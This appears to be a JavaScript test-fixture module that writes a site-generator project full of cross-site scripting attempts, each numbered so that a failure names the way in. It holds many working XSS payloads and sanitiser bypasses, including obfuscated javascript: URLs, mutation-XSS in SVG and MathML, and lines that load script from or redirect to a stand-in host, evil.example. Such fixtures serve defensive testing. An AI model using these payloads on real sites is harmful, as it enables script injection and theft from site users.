// What authors may try with markup: Markdown, the HTML in it, and what other generators know. Each attempt sets a
// number of its own, so that a failure names the way in. What is left of it may be anything that does no harm.
import { mkdirSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { payloads, picture } from "./hostile_payloads.mjs";

const png = "data:image/png;base64,iVBORw0KGgo=";
const svg = (run) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`;

// Targets of links and pictures.
const targets = [
    (run) => `javascript:${run}`,
    (run) => `JaVaScRiPt:${run}`,
    (run) => `JaVaScRiPt&colon;${run}`,
    (run) => `&#x6a;avascript:${run}`,
    (run) => `&#106avascript&#0000058${run}`,
    (run) => `&#1;javascript:${run}`,
    (run) => `java&Tab;script:${run}`,
    (run) => `java&NewLine;script:${run}`,
    (run) => `java\tscript:${run}`,
    (run) => `\\javascript:${run}`,
    (run) => `javascript&colon;//%0a${run}`,
    (run) => `\u00a0javascript:${run}`,
    (run) => `\u2028javascript:${run}`,
    (run) => `j\u00adavascript:${run}`,
    (run) => `%6aavascript:${run}`,
    (run) => `vbscript:${run}`,
    (run) => `livescript:${run}`,
    (run) => `feed:javascript:${run}`,
    (run) => `view-source:javascript:${run}`,
    (run) => `data:text/html,<script>${run}</script>`,
    (run) => `DATA:text/html;base64,PHNjcmlwdD4=`,
    (run) => `data:;charset=utf-8,<script>${run}</script>`,
    svg,
    () => `blob:https://evil.example/x`,
    () => `file:///etc/passwd`,
    () => `//evil.example/x`,
    () => `/\\evil.example/x`,
    () => `\\\\evil.example/x`,
    () => `/&Tab;/evil.example/x`,
    () => `https:evil.example/x`,
    () => `http:///evil.example/x`,
    (run) => `https://evil.example/"onclick="${run}`,
    (run) => `https://evil.example/'onclick='${run}`,
    (run) => `https://evil.example/?\`onclick=\`${run}`,
    (run) => `https://javascript:${run}@evil.example/`,
    (run) => `mailto:x@evil.example?body="onclick="${run}`,
    (run) => `tel:"onclick="${run}`,
    (run) => `#"onclick="${run}`,
    (run) => `#%`,
    (run) => `#%E0%A4%A`,
    (run) => `?"onclick="${run}`,
    (run) => `skill:skill-1#"onclick="${run}`,
    (run) => `{{< ref "#\\"onclick=\\"${run}" >}}`,
    (run) => `{{ "javascript:${run}" | relative_url }}`,
    (run) => `{% link skills/skill-1.md#"onclick="${run} %}`,
];

const inTargets = (run, target) => [
    `[link](<${target}> "x' onclick='${run}")`,
    `![picture](<${target}> "x' onerror='${run}")`,
    `[![both](<${target}>)](<${target}>)`,
    `<${target}>`,
    `[by reference][n] ![by reference][n]\n\n[n]: <${target}> 'x" onclick="${run}'`,
    `<a href="${target.replaceAll('"', "&quot;")}">raw</a>`,
    `<img src="${target.replaceAll('"', "&quot;")}" alt="raw">`,
    `<video poster="${target.replaceAll('"', "&quot;")}" src="${target.replaceAll('"', "&quot;")}"></video>`,
    `<blockquote cite="${target.replaceAll('"', "&quot;")}">cited</blockquote>`,
];

// HTML, each in one line.
const html = [
    (run) => `<script>${run}</script>`,
    (run) => `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
    (run) => `<script/x>${run}</script/x>`,
    (run) => `<<script>${run}//<</script>`,
    (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
    (run) => `<!--<script>-->${run}<!--</script>--><script>${run}</script>`,
    (run) => `<!--><img src=x onerror=${run}>-->`,
    (run) => `<!---><img src=x onerror=${run}>-->`,
    (run) => `<!-- --!><img src=x onerror=${run}>-->`,
    (run) => `<!--<!--><img src=x onerror=${run}>-->`,
    (run) => `<![CDATA[<img src=x onerror=${run}>]]>`,
    (run) => `<?php <img src=x onerror=${run}> ?>`,
    (run) => `<!DOCTYPE x "><img src=x onerror=${run}>">`,
    (run) => `</p></div></main></body></html><img src=x onerror=${run}>`,
    (run) => `<img src=x onerror=${run}>`,
    (run) => `<img/src='x'/onerror=${run}>`,
    (run) => `<img src="x\`\`onerror=${run}">`,
    (run) => `<img src=x:x onerror\u000c=${run}>`,
    (run) => `<img """><script>${run}</script>">`,
    (run) => `<img src=/pictures/p.png srcset="//evil.example/x 1x" sizes=1px usemap=#x ismap crossorigin lowsrc=x dynsrc=x longdesc=javascript:${run}>`,
    (run) => `<image src=x onerror=${run}>`,
    (run) => `<picture><source srcset="//evil.example/x.png" media=all><img src="${png}"></picture>`,
    (run) => `<input formaction=javascript:${run} type=submit autofocus onfocus=${run}>`,
    (run) => `<form action=javascript:${run} id=plan-form><button formaction=javascript:${run}>x</button><input name=innerHTML></form>`,
    (run) => `<button onclick=${run} form=plan-form popovertarget=x>x</button><div popover id=x onbeforetoggle=${run}>x</div>`,
    (run) => `<isindex action=javascript:${run} type=image>`,
    (run) => `<base href="//evil.example/"><base target=_blank>`,
    (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}"><meta http-equiv=Set-Cookie content=x=y>`,
    (run) => `<link rel=import href=//evil.example/x><link rel=stylesheet href=//evil.example/x><link rel=dns-prefetch href=//evil.example>`,
    (run) => `<style>@import '//evil.example/x'; *{background:url(//evil.example/x)}</style>`,
    (run) => `<p style="background:url(//evil.example/x);text-align:center;position:fixed;inset:0">x</p>`,
    (run) => `<p style="text-align:center;float:l/**/eft;x:expression(${run})" class="x&quot; onclick=${run}">x</p>`,
    (run) => `<iframe srcdoc="<script>top.${run}</script>" src=javascript:${run} onload=${run}></iframe>`,
    (run) => `<iframe src="https://www.youtube.com/embed/x&quot;onclick=&quot;${run}" title="x' onclick='${run}"></iframe>`,
    (run) => `<frameset onload=${run}><frame src=javascript:${run}></frameset>`,
    (run) => `<object data=javascript:${run} type=text/html><param name=src value=javascript:${run}><img src=x onerror=${run}></object>`,
    (run) => `<embed src=javascript:${run} code=x><applet code=x></applet><portal src=//evil.example></portal>`,
    (run) => `<a href=//evil.example/x ping=//evil.example/y target=_blank rel=opener download>x</a>`,
    (run) => `<a href="https://evil.example/x" target="_blank">x</a>`,
    (run) => `<a href="x" xlink:href="javascript:${run}" name="querySelector" id="rolebook">x</a>`,
    (run) => `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
    (run) => `<svg onload=${run}><script>${run}</script><animate attributeName=href values=javascript:${run}></svg>`,
    (run) => `<svg><use href="data:image/svg+xml,<svg id='x' onload='${run}'/>#x"/></svg>`,
    (run) => `<svg><style><img src=x onerror=${run}></style></svg>`,
    (run) => `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
    (run) => `<svg><desc><noscript><img src=x onerror=${run}></noscript></desc></svg>`,
    (run) => `<svg><foreignObject><p><iframe src=javascript:${run}></iframe></p></foreignObject></svg>`,
    (run) => `<svg><title><p title="</title><img src=x onerror=${run}>">`,
    (run) => `<math href=javascript:${run}><mi xlink:href="javascript:${run}">x</mi></math>`,
    (run) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    (run) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
    (run) => `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
    (run) => `<math><mi><a><table><td><svg><style><img src=x onerror=${run}>`,
    (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
    (run) => `<noscript><style></noscript><img src=x onerror=${run}></style>`,
    (run) => `<template><img src=x onerror=${run}></template><template shadowrootmode=open><script>${run}</script></template>`,
    (run) => `<p id="</p><img src=x onerror=${run}>">x</p>`,
    (run) => `<textarea><p title="</textarea><img src=x onerror=${run}>"></textarea>`,
    (run) => `<title><p title="</title><img src=x onerror=${run}>"></title>`,
    (run) => `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
    (run) => `<listing>&lt;img src=x onerror=${run}&gt;</listing><pre>\n\n&lt;img src=x onerror=${run}&gt;</pre>`,
    (run) => `<noembed><p title="</noembed><img src=x onerror=${run}>"></noembed>`,
    (run) => `<noframes><p title="</noframes><img src=x onerror=${run}>"></noframes>`,
    (run) => `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${run}>">x</a>`,
    (run) => `<select><option><script>${run}</script><keygen autofocus onfocus=${run}></select>`,
    (run) => `<table><tr><td background=//evil.example/x><a id="</table><img src=x onerror=${run}>">x</a></td></tr></table>`,
    (run) => `<table><a href="javascript:${run}">x<tr><td></table><b><i></b><p></i>x</p>`,
    (run) => `<a><table><a></a></table></a><a href=x><div><a href="javascript:${run}">x</a></div></a>`,
    (run) => `<details open ontoggle=${run}><summary onclick=${run}>x</summary>x</details>`,
    (run) => `<details><summary>Is <img src=x onerror=${run}> asked?</summary><script>${run}</script> No.</details>`,
    (run) => `<marquee onstart=${run}>x</marquee><bgsound src=javascript:${run}><blink>x</blink>`,
    (run) => `<video controls onloadstart=${run}><source src=//evil.example/x onerror=${run}><track default src=//evil.example/x></video>`,
    (run) => `<audio src="/x\\y" autoplay onerror=${run}></audio><video src="https&colon;//evil.example/x" poster="//evil.example/x"></video>`,
    (run) => `<div contenteditable onblur=${run} tabindex=0 accesskey=x draggable=true data-page=home data-plan=x data-home=javascript:${run}>x</div>`,
    (run) => `<div is=x slot=x part=x nonce=x itemscope itemprop=x role=alert aria-live=assertive aria-label="x&quot; onclick=${run}">x</div>`,
    (run) => `<body onload=${run} background=//evil.example/x><html onclick=${run} manifest=//evil.example/x><head><title>x</title></head>`,
    (run) => `<plaintext><img src=x onerror=${run}>`,
    (run) => `<x-y onclick=${run} is=z>x</x-y><a:b xmlns:a="http://www.w3.org/1999/xhtml"><a:script>${run}</a:script></a:b>`,
    (run) => `<meter value="1&quot; onclick=${run}" min=javascript:${run}></meter><ol start="1&quot;onclick=${run}" type="a&quot;x">x</ol>`,
    (run) => `<time datetime='"onclick=${run}'>x</time><td headers='"onclick=${run}' scope=x>x</td><li value='"x'>x</li>`,
    (run) => `<q cite="javascript:${run}">x</q><del cite="data:text/html,x">x</del><ins cite="https://evil.example/&quot;x">x</ins>`,
    (run) => `<h1 id="main">x</h1><h2 id=search-results>x</h2><section id=term-note>x</section><span id=module>x</span>`,
    (run) => `<i id="%">x</i><div class="contents"><a href="#%">x</a></div>`,
    (run) => `<dl class="glossary"><dt><a href="/skills/">x</a></dt></dl>`,
    (run) => `<div class="table hidden term-note mention markable step progress">x</div>`,
    (run) => `<div markdown="1"><img src=x onerror=${run}>**x**<script>${run}</script></div>`,
    (run) => `&lt;script&gt;${run}&lt;/script&gt; &#60;img src=x onerror=${run}&#62; &amp;lt;script&amp;gt;`,
    (run) => `\\<script>${run}\\</script> \`<script>${run}</script>\` <!-- more --><!--more--><script>${run}</script>`,
    (run) => `<a title="-->"><script>${run}</script></a><!-- "><!-- '><img src=x onerror=${run}>`,
    (run) => `<b title='<img src="x" onerror="${run}">'>x</b><i title="&quot;><img src=x onerror=${run}>">x</i>`,
    (run) => `<div title="a\u0000b\u000c\u001b\u007f\ufffe\uffff" lang='"x' dir='"x'>\u0000<scr\u0000ipt>${run}</scr\u0000ipt></div>`,
];

// Markdown and its neighbours; of more than one line.
const markdown = [
    (run) => `\`\`\`html" onclick="${run}" {: onclick="${run}"} <img src=x onerror=${run}>\n</code></pre><img src=x onerror=${run}>\n\`\`\``,
    (run) => `~~~ {.html onclick="${run}" #x"y style="x"}\n</code></pre><img src=x onerror=${run}>\n~~~`,
    (run) => `~~~{=html}\n<img src=x onerror=${run}>\n~~~`,
    (run) => `\`\`\`"><script>${run}</script>\nx\n\`\`\``,
    (run) => `\`\`\`mermaid\ngraph TD; A[<img src=x onerror=${run}>]\n\`\`\``,
    (run) => `{% highlight "><script>${run}</script> %}\n<img src=x onerror=${run}>\n{% endhighlight %}`,
    (run) => `{{< highlight "\\"><script>${run}</script>" "linenos=table" >}}\n<img src=x onerror=${run}>\n{{< /highlight >}}`,
    ...["html", "xml", "javascript", "php", "css", "sh", "diff", "tex", "c++", "sql"].map(
        (language) => (run) =>
            `\`\`\`${language}\n"</span></code></pre><script>${run}</script> <a href="javascript:${run}"> // https://evil.example/"onclick="${run} <!-- x\n/* </script> */ '\\"' &lt;img&gt;\n\`\`\``,
    ),
    (run) => `    <img src=x onerror=${run}>`,
    (run) => `Words\n{: onclick="${run}" style="x" data-page="home" href="javascript:${run}" title='"><img src=x onerror=${run}>' }`,
    (run) => `Words\n{: #x"y .a"b lang='"><img src=x onerror=${run}>' class="a\\" onclick=\\"${run}" aria-label="'\\"" }`,
    (run) => `[link](/skills/){: onclick="${run}" .mention target=_blank rel=opener} ![x](/pictures/p.png){: onerror="${run}" width='1"x' height=9e9}`,
    (run) => `{:x: onclick="${run}" title='"><img src=x onerror=${run}>'}\n\nWords\n{: x}`,
    (run) => `## Heading {#id"onclick="${run}} `,
    (run) => `## Heading {#x .y onclick="${run}"}`,
    (run) => `## <img src=x onerror=${run}> [x](javascript:${run}) \`<script>\` {#a<b}`,
    (run) => `## %E0%A4%A 100% of __proto__ & "constructor"\n\n## Main\n\n## Search results\n\n## Term note`,
    (run) => `## One {#50%}\n\n## Two {#%E0%A4}`,
    (run) => `> [!"><script>${run}</script>] <img src=x onerror=${run}>\n> x`,
    (run) => `> [!note|"><script>${run}</script>]- <img src=x onerror=${run}>\n> x`,
    (run) => `!!! "><script>${run}</script> "<img src=x onerror=${run}>"\n    x`,
    (run) => `??? note" onclick="${run} inline end "<img src=x onerror=${run}>"\n    x`,
    (run) => `=== "<img src=x onerror=${run}>"\n    x`,
    (run) => `:::note" onclick="${run}[<img src=x onerror=${run}>]\nx\n:::`,
    (run) => `::: {.note onclick="${run}" style="x"}\nx\n:::`,
    (run) => `Term <img src=x onerror=${run}>\n: meaning <script>${run}</script> [x](javascript:${run})`,
    (run) => `x[^"><img src=x onerror=${run}>] y[^a'b&c]\n\n[^"><img src=x onerror=${run}>]: <script>${run}</script> x\n[^a'b&c]: x`,
    (run) => `| <img src=x onerror=${run}> | [x](javascript:${run}) |\n|:-:|--:|\n| <script>${run}</script> | \`\\|<script>\` |`,
    (run) => `[[skill-1|<img src=x onerror=${run}>]] [[skill-1#"onclick="${run}|x]]`,
    (run) => `{{< figure src="javascript:${run}" alt="\\"><script>${run}</script>" caption="<img src=x onerror=${run}>" link="javascript:${run}" title="<script>${run}</script>" target="_blank" rel="opener" width='1"onclick="${run}' >}}`,
    (run) => `{{< details summary="<img src=x onerror=${run}>" open=true class="x\\" onclick=\\"${run}" >}}\n<script>${run}</script>\n{{< /details >}}`,
    (run) => `{{< youtube "\\"><script>${run}</script>" >}} {{< vimeo javascript:${run} >}} {{< gist "../x" "'onclick='${run}" >}} {{< x user="\\"onclick=" id="${run}" >}}`,
    (run) => `{{< rawhtml >}}<script>${run}</script>{{< /rawhtml >}} {{% x %}}<img src=x onerror=${run}>{{% /x %}}`,
    (run) => `{% include x.html y="<img src=x onerror=${run}>" %} {{ "<script>${run}</script>" }} {{ page.title }} {% raw %}<img src=x onerror=${run}>{{{body}}}{% endraw %}`,
    (run) => `https://evil.example/"><script>${run}</script> www.evil.example/'onclick='${run} x@evil.example"onclick=`,
    (run) => `\ud83d\ude00 \u202e<img src=x onerror=${run}>\u2066 \u2028<script>${run}</script>\u2029 \ufeff &#0; &#x110000; &#xd800; &#x80; &#xffff; &#xfffe; &#11; \ufffe \u000b \u0001`,
    (run) => `$$<img src=x onerror=${run}>$$ \\(<script>${run}</script>\\) :"><script>: ==<img src=x onerror=${run}>== %%<script>%% {~~<b>~><i>~~}`,
    (run) => `<div>\n\n**<script>**\n\n${run}\n\n</script>\n\n</div>\n\n<style>\n\n* { x: y }\n\n</style>`,
    (run) => `- <div\n- title="\n- <img src=x onerror=${run}>\n- ">`,
    (run) => `<a href="x\n\n"><img src=x onerror=${run}>\n\n<a title='\n\n' onclick='${run}'>x</a>`,
];

export const attempts = [
    ...targets.map((target) => (run) => inTargets(run, target(run)).join("\n\n")),
    ...html.map((each) => (run) => {
        const once = each(run);
        const inLine = [`- item ${once}`, `> quote ${once}`, `Words ${once} between`, `### Of ${once}`];
        return [once, ...inLine, `| a |\n|---|\n| ${once} |`].join("\n\n");
    }),
    ...markdown.map((each) => (run) => {
        const once = each(run);
        return [once, `> ${once.replaceAll("\n", "\n> ")}`, `- x\n\n  ${once.replaceAll("\n", "\n  ")}`].join("\n\n");
    }),
].map((way, i) => way(`window.PWN=${1000 + i}`));

// Addresses take no character that Windows forbids in names.
const inAddress = (text) => text.replace(/%..|[<>:"|?*\\/\p{C}\p{Zl}\p{Zp}]/gu, "");

// A project of these attempts; and of names of files, of addresses, and of characters that no text should have.
export function writeMarkupProject(folder) {
    const write = (path, content) => {
        const file = join(folder, path);
        mkdirSync(dirname(file), { recursive: true });
        writeFileSync(file, content);
    };
    const inJson = (fields) => `${JSON.stringify(fields)}\n`;
    write(
        "rolebook.toml",
        'title = "Attempts"\nbase_url = "https://hostile.example/"\npaginate = 1000\nfeeds.entries = 1000\n',
    );
    write("content/skills/skill-1.md", "# Skill\n");
    attempts.forEach((text, i) =>
        write(`content/articles/attempt-${i}.md`, `---\ntitle: Attempt ${i}\ndate: 2025-01-01\n---\n\n${text}\n`),
    );
    html.forEach((each, i) =>
        write(`content/old-${i}.html`, `---\ntitle: Old ${i}\n---\n${each(`window.PWN=${2000 + i}`)}\n`),
    );
    payloads.forEach((payload, i) => {
        const address = inAddress(payload);
        const named = process.platform === "win32" ? address : payload.replaceAll("/", "∕");
        const name = named.slice(0, 60).trim();
        const title = `Mentioned thing ${i}x`;
        const alias = `${payload} thing`;
        write(`content/roles/thing-${i}.md`, inJson({ title, description: payload, also_known_as: [alias] }));
        write(
            `content/${name} dir/${name}.md`,
            `# Named ${i}\n\nA ${title}, [a file](<${name.replace(/[<>\\&]/g, "\\$&")}.bin>).\n`,
        );
        write(`content/${name} dir/${name}.bin`, "");
        write(
            `content/articles/named-${i}.md`,
            inJson({
                title: `Addressed ${i}`,
                date: "2025-01-02",
                aliases: [`/old-${i}/${address}/`],
                permalink: `/new-${i}/${address}/`,
                canonical: i % 2 ? `https://evil.example/${payload}` : undefined,
            }),
        );
        write(`content/articles/slug-${i}.md`, inJson({ title: `Slug ${i}`, slug: `${address} slug` }));
        write(`content/articles/gone-${i}.md`, inJson({ title: "x", redirect_to: `https://evil.example/${payload}` }));
    });
    const odd = "a\u0000\u0001\u0008\u000b\u000c\u001b\u007f\u0085\ufeff\ufffe\uffffb";
    write(
        "content/articles/odd-characters.md",
        inJson({
            title: `Title ${odd}`,
            date: "2025-01-03",
            description: odd,
            tags: [`tag ${odd}`],
            image: { path: "/pictures/p.png", alt: odd },
        }) + `${odd}\n\n## ${odd}\n\n    ${odd}\n\n<p title="${odd}">${odd}</p>\n`,
    );
    write("content/pictures/p.png", picture);
}
